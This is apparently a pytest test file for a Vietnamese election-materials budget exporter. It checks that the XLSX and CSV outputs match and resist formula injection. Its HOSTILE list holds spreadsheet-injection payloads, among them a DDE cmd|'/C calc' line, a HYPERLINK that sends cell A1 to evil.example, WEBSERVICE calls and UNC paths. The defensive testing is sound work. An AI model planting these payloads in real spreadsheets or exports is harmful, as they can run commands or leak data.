"""Screen, XLSX and CSV say the same to the đồng, and nothing a person typed is ever calculated."""

import csv
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from inventory.vocabulary import Figure, GapReason, LineAction
from maps.downloads.csv_file import csv_bytes, guarded
from maps.downloads.rows import Heading, document
from maps.downloads.xlsx_file import xlsx
from maps.investment.lines import Addition, AdditionCode, InvestmentList, Line, sentence
from maps.investment.rules import subtotals

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
HOSTILE = [
    *(f"{mark}1+1" for mark in TRIGGERS),
    *(f"{mark}cmd|'/C calc'!A0" for mark in TRIGGERS),
    *(f' {mark}HYPERLINK("http://x","y")' for mark in TRIGGERS),
    *(f"an toàn;{mark}1+1" for mark in TRIGGERS),
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    '=WEBSERVICE("http://e.example")',
    "{=1+1}",
    "=1+1\n=2+2",
    "http://evil.example",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "\\\\host\\share",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "'=1+1",
    '"=1+1"',
    ",=1+1",
    'a,"b"\r\n=1',
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><f>1</f>",
    "\x00=1+1",
    "\ud800=1",
]


def line(number=1, area=1, amount=350_000, text=None, **more):
    name = text if text is not None else f"Nhà văn hóa khu {number}"
    values = {
        "action": LineAction.BUY,
        "area_id": area,
        "area_code": "06706" if area == 1 else "06649",
        "area_name": "Đại Yên" if area == 1 else "Hà Khánh",
        "place_id": number,
        "place_number": number,
        "place_name": f"KVBP số {number}",
        "venue_name": name,
        "requirement_id": 1,
        "requirement": "Băng rôn ở cổng",
        "kind": "BANNER_H",
        "kind_name": "băng rôn ngang",
        "mandatory": True,
        "voters": 812,
        "quantity": 2,
        "unit": "cái",
        "unit_price": None if amount is None else amount,
        "price_id": 1,
        "price_source": "Báo giá 12/BG",
        "price_guess": True,
        "amount": None if amount is None else 2 * amount,
        "from_store": 1,
        "shared": 0,
        "reason": GapReason.BROKEN,
        "why": (sentence("%(requirement)s: cần 3.", requirement=name),),
        "nearest_m": 120.4,
        "synthetic": False,
    }
    return Line(**(values | more))


def found(priced=None, additions=True, **more):
    priced = tuple(priced if priced is not None else (line(1), line(2, area=2), line(3, amount=1_234_567)))
    works = sum(one.amount for one in priced)
    added, base = [], works
    if additions:
        for code, label, percent in (
            (AdditionCode.TAKEDOWN, "Chi phí tháo dỡ (%(percent)s)", 7),
            (AdditionCode.VAT, "Thuế giá trị gia tăng (%(percent)s)", 8),
            (AdditionCode.CONTINGENCY, "Dự phòng (%(percent)s)", 5),
        ):
            amount = (base * percent + 50) // 100
            added.append(Addition(code, sentence(label, percent=f"{percent} %"), percent, base, amount))
            base += amount
    values = {
        "figure": Figure.REPORTED,
        "priced": priced,
        "unpriced": (line(4, amount=None),),
        "covered": (),
        "to_verify": (line(5, amount=None, action=LineAction.VERIFY),),
        "to_survey": (line(6, amount=None, action=LineAction.SURVEY, quantity=15),),
        "subtotals": subtotals(priced),
        "works": works,
        "additions": tuple(added),
        "total": base,
    }
    return InvestmentList(**(values | more))


HEADING = Heading(
    campaign="Bầu cử 2021",
    scope="Thành phố Hạ Long",
    election_day=date(2021, 5, 23),
    facts_version=1207,
    read_at=datetime(2021, 4, 19, 2, 12, tzinfo=UTC),
    standard="Tiêu chuẩn số 1",
    book="Sổ giá số 1",
    book_source="Khảo giá",
    book_date="01/03/2021",
    share_reported=0.57,
    share_verified=0.41,
    surveyed=187,
    spots=316,
    total_reported=4_000_000,
    total_verified=5_000_000,
    synthetic=False,
    made_at=datetime(2021, 4, 19, 3, 0, tzinfo=UTC),
)


def document_of(listed=None, **heading):
    return document(listed or found(), replace(HEADING, **heading))


def sheet_rows(packed, name="Danh mục"):
    """Cached values, as a reader that cannot calculate sees them."""
    return (
        CalamineWorkbook.from_filelike(io.BytesIO(packed))
        .get_sheet_by_name(name)
        .to_python(skip_empty_area=False)
    )


def csv_rows(document):
    text = csv_bytes(document).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def labelled(rows, label):
    return next(row for row in rows if row[1] == label)


AMOUNT = 11


def test_the_xlsx_adds_up_to_the_dong_without_calculating():
    listed = found()
    rows = sheet_rows(xlsx(document_of(listed)))
    assert labelled(rows, "TỔNG CỘNG")[AMOUNT] == listed.total
    assert labelled(rows, "Cộng các hạng mục")[AMOUNT] == listed.works
    assert labelled(rows, "Cộng Hà Khánh")[AMOUNT] == 700_000
    assert labelled(rows, "Cộng Đại Yên")[AMOUNT] == 700_000 + 2_469_134
    assert rows[3][3] == listed.total
    assert sum(row[AMOUNT] for row in rows[6:] if isinstance(row[0], float)) == listed.works
    assert [labelled(rows, one.label.vi)[AMOUNT] for one in listed.additions] == [
        one.amount for one in listed.additions
    ]
    assert "Bằng chữ:" in rows[3][4]


def test_csv_and_xlsx_have_the_same_lines():
    made = document_of()
    ours = [row for row in csv_rows(made) if row["Loại dòng"] == "Hạng mục"]
    theirs = [row for row in sheet_rows(xlsx(made))[6:] if isinstance(row[0], float)]
    assert len(ours) == len(theirs) == 3
    for ours_row, theirs_row in zip(ours, theirs, strict=True):
        written = [str(int(cell)) if isinstance(cell, float) else cell for cell in theirs_row]
        assert list(ours_row.values())[1:-3] == written


def test_the_csv_total_is_the_sum_of_its_priced_rows():
    listed = found()
    rows = csv_rows(document_of(listed))
    priced = [int(row["Thành tiền (đồng)"]) for row in rows if row["Loại dòng"] in ("Hạng mục", "Cộng thêm")]
    (total,) = [row for row in rows if row["Loại dòng"] == "Tổng cộng"]
    assert sum(priced) == int(total["Thành tiền (đồng)"]) == listed.total


def test_the_csv_opens_in_excel_and_in_programs():
    packed = csv_bytes(document_of())
    assert packed.startswith(b"\xef\xbb\xbf")
    assert packed.count(b"\r\n") == packed.count(b"\n")
    (item, *_) = csv_rows(document_of())
    assert (item["Mã phường, xã"], item["Phiên bản dữ kiện"], item["Cuộc bầu cử"]) == (
        "06706",
        "1207",
        "Bầu cử 2021",
    )


def test_sums_are_formulas_with_typed_neighbours():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx(document_of())))["Danh mục"]
    formulas = {cell.coordinate: cell.value for row in sheet for cell in row if cell.data_type == "f"}
    assert len(formulas) == 8
    assert formulas["L9"] == "=SUM(L7:L8)"
    assert formulas["L11"] == "=SUM(L10:L10)"
    assert formulas["L12"] == '=SUMIF($A$7:$A$11,">0",$L$7:$L$11)'
    assert formulas["L13"] == "=ROUND(SUM(L12:L12)*7/100,0)"
    assert formulas["L16"] == "=SUM(L12:L15)"
    assert formulas["D4"] == "=L16"
    assert (sheet["L7"].data_type, sheet["L7"].number_format) == ("n", "#,##0")
    assert (sheet["T7"].data_type, sheet["T7"].value) == ("s", "06706")
    assert sheet.freeze_panes == "A7"
    assert sheet.auto_filter.ref == "A6:V11"
    assert sheet.print_title_rows == "$5:$6"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)


def test_the_other_sheets_hold_what_has_no_amount():
    packed = xlsx(document_of())
    names = CalamineWorkbook.from_filelike(io.BytesIO(packed)).sheet_names
    assert names == [
        "Danh mục",
        "Chưa có đơn giá",
        "Chờ xác minh",
        "Chưa khảo sát",
        "Không cần kinh phí",
        "Ghi chú",
    ]
    for name in names[1:4]:
        rows = sheet_rows(packed, name)
        assert rows[6][0] == 1.0
        assert not any("tiền" in str(cell) for cell in rows[5])
    assert sheet_rows(packed, "Không cần kinh phí")[6][1] == "Không có mục nào"
    notes = dict(row[:2] for row in sheet_rows(packed, "Ghi chú"))
    assert notes["Tổng theo số liệu đã báo cáo"] == "4.000.000 đ"
    assert notes["Dữ kiện"] == "Phiên bản 1.207, lúc 09:12 19/04/2021"
    assert notes["Giá tạm tính"].startswith("3 dòng")
    assert "41 % / 57 %" in notes["Số liệu"]


@pytest.mark.parametrize("where", ["heading", "line", "survey"])
def test_synthetic_data_says_so_on_every_sheet_and_row(where):
    listed = found()
    if where == "line":
        listed = replace(listed, priced=tuple(replace(one, synthetic=True) for one in listed.priced))
    if where == "survey":
        listed = replace(listed, to_survey=tuple(replace(one, synthetic=True) for one in listed.to_survey))
    made = document_of(listed, synthetic=where == "heading")
    packed = xlsx(made)
    for name in CalamineWorkbook.from_filelike(io.BytesIO(packed)).sheet_names:
        assert any("DỮ LIỆU MINH HỌA" in row for row in sheet_rows(packed, name)), name
    assert any(row["Yêu cầu"] == "DỮ LIỆU MINH HỌA" for row in csv_rows(made))
    if where == "line":
        assert all(row["Dữ liệu"] == "DỮ LIỆU MINH HỌA" for row in csv_rows(made)[:3])


def test_real_data_never_says_it_is_synthetic():
    assert "MINH HỌA" not in csv_bytes(document_of()).decode()


def test_the_same_list_makes_the_same_bytes_and_names_nobody():
    first, second = xlsx(document_of()), xlsx(document_of())
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as parts:
        core = parts.read("docProps/core.xml").decode()
    assert "2021-04-19T03:00:00Z" in core
    assert re.findall(r"<dc:creator>(.*?)</dc:creator>", core) in ([], [""])
    later = xlsx(document_of(made_at=HEADING.made_at + timedelta(days=1)))
    assert later != first


def test_an_empty_list_is_a_file_too():
    nothing = found([], additions=False, unpriced=(), to_verify=(), to_survey=(), total=0, works=0)
    made = document_of(nothing)
    assert labelled(sheet_rows(xlsx(made)), "TỔNG CỘNG")[AMOUNT] == 0
    assert csv_rows(made)[0]["Loại dòng"] == "Tổng cộng"


def test_included_vat_is_a_line_of_zero():
    vat = Addition(
        AdditionCode.VAT, sentence("Thuế giá trị gia tăng: đã gồm trong đơn giá"), 10, 700_000, 0, True
    )
    listed = replace(found([line()], additions=False), additions=(vat,))
    rows = sheet_rows(xlsx(document_of(listed)))
    assert labelled(rows, vat.label.vi)[AMOUNT] == 0
    assert labelled(rows, "TỔNG CỘNG")[AMOUNT] == 700_000


def hostile_document():
    everywhere = ("area_name", "requirement", "kind_name", "unit", "price_source", "area_code", "kind")
    lines = [
        line(number, text=text, **dict.fromkeys(everywhere, text))
        for number, text in enumerate(HOSTILE, start=1)
    ]
    ward = [replace(one, area_id=1 + number % 3) for number, one in enumerate(lines)]
    return document_of(
        found(ward, to_verify=tuple(ward), to_survey=tuple(ward), unpriced=tuple(ward), covered=tuple(ward)),
        campaign=HOSTILE[0],
        scope=HOSTILE[1],
        standard=HOSTILE[2],
        book=HOSTILE[3],
        book_source=HOSTILE[40],
    )


def test_the_corpus_is_long_enough():
    assert len(set(HOSTILE)) >= 60


def test_no_text_becomes_a_formula_or_a_link_in_xlsx():
    packed = xlsx(hostile_document())
    ours = re.compile(r"^(SUM\(|SUMIF\(|ROUND\(SUM\(|L\d+$)")
    with zipfile.ZipFile(io.BytesIO(packed)) as parts:
        for name in parts.namelist():
            tree = ElementTree.fromstring(parts.read(name))  # noqa: S314 -- our own file
            assert not list(tree.iter(f"{MAIN}hyperlink")), name
            assert "externalLink" not in name
            formulas = [cell.text for cell in tree.iter(f"{MAIN}f")]
            assert all(ours.match(formula or "") for formula in formulas), name
            assert len(formulas) == (9 if name == "xl/worksheets/sheet1.xml" else 0)


def test_hostile_text_is_read_back_as_it_was():
    rows = sheet_rows(xlsx(hostile_document()))
    read = {row[3] for row in rows[6:]}
    for text in ("=1+1", "@cmd|'/C calc'!A0", "_x003D_1+1", "http://evil.example", "'=1+1", "<f>1+1</f>"):
        assert text in read
    assert "=1" in read  # the lone surrogate is gone, the rest stays text


def test_no_csv_cell_starts_with_what_a_spreadsheet_calculates():
    text = csv_bytes(hostile_document()).decode("utf-8-sig")
    starts = ("=", "+", "@", "\t", "\r", "＝", "＋", "－", "＠")
    count = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            count += 1
            assert not cell.lstrip().startswith(starts)
            assert not cell.startswith("-") or re.fullmatch(r"-\d+", cell)
            assert not any(part.lstrip().startswith((*starts, "-")) for part in cell.split(";")[1:])
    assert count > 60 * 10


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("\t=1", "'\t=1"),
        ("－1", "'－1"),
        ("a;=1", "a;'=1"),
        ("a=1", "a=1"),
        ("Nhà văn hóa - khu 4", "Nhà văn hóa - khu 4"),
    ],
)
def test_only_what_is_dangerous_gets_an_apostrophe(text, safe):
    assert guarded(text) == safe


def test_negative_numbers_stay_numbers():
    back = found([line(amount=-5)], additions=False)
    (item, *_) = csv_rows(document_of(back))
    assert item["Thành tiền (đồng)"] == "-10"


def test_a_text_longer_than_a_cell_is_cut():
    packed = xlsx(document_of(found([line(text="dài " * 20_000)])))
    read = sheet_rows(packed)[6][3]
    assert len(read) == 32_000
    assert read.endswith("…")


def without_cached_values(packed):
    """The same workbook, so that a program has to calculate every sum itself."""
    bare = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(packed)) as parts, zipfile.ZipFile(bare, "w") as out:
        for name in parts.namelist():
            out.writestr(name, re.sub(rb"(</f>)<v>[^<]*</v>", rb"\1", parts.read(name)))
    return bare.getvalue()


def in_libreoffice(packed, folder):
    (folder / "danh-muc.xlsx").write_bytes(packed)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
            "--outdir",
            str(folder),
            str(folder / "danh-muc.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (folder / "danh-muc.csv").read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_calculates_the_same_dong_and_shows_hostile_text_literally(tmp_path):
    made = hostile_document()
    rows = in_libreoffice(without_cached_values(xlsx(made)), tmp_path)
    assert int(labelled(rows, "TỔNG CỘNG")[AMOUNT]) == made.total
    assert int(rows[3][3]) == made.total
    for entry in made.sums:
        assert int(labelled(rows, entry.title)[AMOUNT]) == entry.amount
    shown = {row[3] for row in rows[6:]}
    texts = {row[2] for group in made.groups for row in group.rows}
    assert texts <= shown
